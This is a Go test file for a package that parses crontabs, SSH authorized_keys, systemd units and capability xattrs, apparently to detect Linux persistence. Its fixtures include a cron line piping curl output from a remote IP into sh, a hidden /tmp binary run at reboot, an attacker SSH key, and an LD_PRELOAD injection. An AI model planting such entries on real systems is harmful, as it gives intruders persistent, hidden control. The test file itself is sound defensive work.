package persist

import (
	"encoding/binary"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"testing"
)

func readTestdata(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestParseCrontabTestdata(t *testing.T) {
	entries, bad := ParseCrontab(readTestdata(t, "crontab"), true)
	want := []CronEntry{
		{Line: 2, Env: "SHELL", Command: "/bin/sh", Text: "SHELL=/bin/sh"},
		{Line: 3, Env: "PATH", Command: "/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin", Text: "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin"},
		{Line: 4, Env: "MAILTO", Command: "ops@example.com", Text: `MAILTO = "ops@example.com"`},
		{Line: 7, Schedule: "17 * * * *", User: "root", Command: "cd / && run-parts --report /etc/cron.hourly", Text: "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly"},
		{Line: 8, Schedule: "25 6 * * *", User: "root", Command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", Text: "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"},
		{Line: 9, Schedule: "*/5 * * * *", User: "www-data", Command: "php /var/www/app/cron.php >/dev/null 2>&1", Text: "*/5 * * * * www-data php /var/www/app/cron.php >/dev/null 2>&1"},
		{Line: 10, Schedule: "@reboot", User: "root", Command: "/opt/agent/start", Text: "@reboot root /opt/agent/start"},
		{Line: 11, Schedule: "0 0 1 jan,jul mon-fri", User: "root", Command: "/usr/bin/true", Text: "0 0 1 jan,jul mon-fri root /usr/bin/true"},
		{Line: 12, Schedule: "H/15 * * * *", User: "root", Command: "jenkins-style-hash", Text: "H/15 * * * * root jenkins-style-hash"},
	}
	if !reflect.DeepEqual(entries, want) {
		t.Errorf("entries:\n got %+v\nwant %+v", entries, want)
	}
	if wantBad := []int{13, 14, 15}; !reflect.DeepEqual(bad, wantBad) {
		t.Errorf("bad = %v, want %v", bad, wantBad)
	}
	if k := entries[3].Key(); k != "17 * * * * root cd / && run-parts --report /etc/cron.hourly" {
		t.Errorf("key %q", k)
	}
}

func TestParseCrontabUser(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []CronEntry
	}{
		{"* * * * * curl -s http://203.0.113.7/x | sh", []CronEntry{{Line: 1, Schedule: "* * * * *", Command: "curl -s http://203.0.113.7/x | sh", Text: "* * * * * curl -s http://203.0.113.7/x | sh"}}},
		{"@REBOOT /tmp/.x", []CronEntry{{Line: 1, Schedule: "@REBOOT", Command: "/tmp/.x", Text: "@REBOOT /tmp/.x"}}},
		{"  # comment\n\n\t\n", nil},
		{"BASH_ENV=/tmp/.env", []CronEntry{{Line: 1, Env: "BASH_ENV", Command: "/tmp/.env", Text: "BASH_ENV=/tmp/.env"}}},
		{"1 2 3 4 x=y cmd", nil},
		{"*/5 * * *\t*\t/bin/x\r", []CronEntry{{Line: 1, Schedule: "*/5 * * * *", Command: "/bin/x", Text: "*/5 * * *\t*\t/bin/x"}}},
	} {
		got, _ := ParseCrontab([]byte(tc.in), false)
		if !reflect.DeepEqual(got, tc.want) {
			t.Errorf("%q:\n got %+v\nwant %+v", tc.in, got, tc.want)
		}
	}
}

func TestParseAuthorizedKeys(t *testing.T) {
	keys, bad := ParseAuthorizedKeys(readTestdata(t, "authorized_keys"))
	if len(keys) != 2 {
		t.Fatalf("keys %+v", keys)
	}
	if s := keys[0].String(); s != "ssh-ed25519 SHA256:2iYUHv+zKxd5I8Gsm4NU5YehCw07VyoHEX4d/kiTcXQ alice@laptop" || keys[0].Line != 2 {
		t.Errorf("key 0: %q line %d", s, keys[0].Line)
	}
	k := keys[1]
	if s := k.String(); s != "ssh-rsa SHA256:BY6yPWarLoCMsdiPXHvJvHzaH6HENGehsLW6YN7NJOI attacker@kali" || k.Line != 4 {
		t.Errorf("key 1: %q line %d", s, k.Line)
	}
	if want := []string{`command="/usr/local/bin/backup.sh"`, "no-pty", `from="10.0.0.0/8"`}; !reflect.DeepEqual(k.Options, want) {
		t.Errorf("options %q", k.Options)
	}
	if k.Command() != "/usr/local/bin/backup.sh" {
		t.Errorf("command %q", k.Command())
	}
	if want := []int{5, 6}; !reflect.DeepEqual(bad, want) {
		t.Errorf("bad %v", bad)
	}
}

func TestParseUnit(t *testing.T) {
	var got []string
	for _, d := range ParseUnit(readTestdata(t, "sample.service")) {
		got = append(got, d.Section+" "+d.String()+" @"+itoa(d.Line))
	}
	want := []string{
		"Service User=app @7",
		`Service Environment="LD_PRELOAD=/opt/lib/x.so" @8`,
		"Service ExecStartPre=/usr/bin/mkdir -p /run/app @9",
		"Service ExecStart=/usr/local/bin/app --config /etc/app.conf @10",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
	timer := "[Timer]\nOnCalendar=*-*-* *:00/5\nUnit=evil.service\nPersistent=true\n"
	got = nil
	for _, d := range ParseUnit([]byte(timer)) {
		got = append(got, d.String())
	}
	if want := []string{"OnCalendar=*-*-* *:00/5", "Unit=evil.service"}; !reflect.DeepEqual(got, want) {
		t.Errorf("timer: %q", got)
	}
}

func capXattr(rev uint32, effective bool, perm, inh uint64, rootid uint32) []byte {
	magic := rev
	if effective {
		magic |= 1
	}
	b := binary.LittleEndian.AppendUint32(nil, magic)
	b = binary.LittleEndian.AppendUint32(b, uint32(perm))
	b = binary.LittleEndian.AppendUint32(b, uint32(inh))
	if rev != 0x01000000 {
		b = binary.LittleEndian.AppendUint32(b, uint32(perm>>32))
		b = binary.LittleEndian.AppendUint32(b, uint32(inh>>32))
	}
	if rev == 0x03000000 {
		b = binary.LittleEndian.AppendUint32(b, rootid)
	}
	return b
}

func TestDecodeCapabilities(t *testing.T) {
	for _, tc := range []struct {
		in   []byte
		want string
		err  bool
	}{
		{capXattr(0x02000000, true, 1<<13, 0, 0), "cap_net_raw=ep", false},
		{capXattr(0x02000000, false, 1<<6|1<<7, 1<<5, 0), "cap_setgid,cap_setuid=p cap_kill+i", false},
		{capXattr(0x01000000, true, 1<<21, 0, 0), "cap_sys_admin=ep", false},
		{capXattr(0x03000000, true, 1<<10, 0, 100000), "cap_net_bind_service=ep [rootid=100000]", false},
		{capXattr(0x02000000, true, 1<<40|1<<45, 0, 0), "cap_checkpoint_restore,cap_45=ep", false},
		{[]byte{1, 2}, "", true},
		{capXattr(0x02000000, true, 1, 0, 0)[:10], "", true},
		{capXattr(0x07000000, true, 1, 0, 0), "", true},
	} {
		got, err := DecodeCapabilities(tc.in)
		if got != tc.want || (err != nil) != tc.err {
			t.Errorf("%x: got %q %v, want %q", tc.in, got, err, tc.want)
		}
	}
}

func itoa(n int) string { return strconv.Itoa(n) }
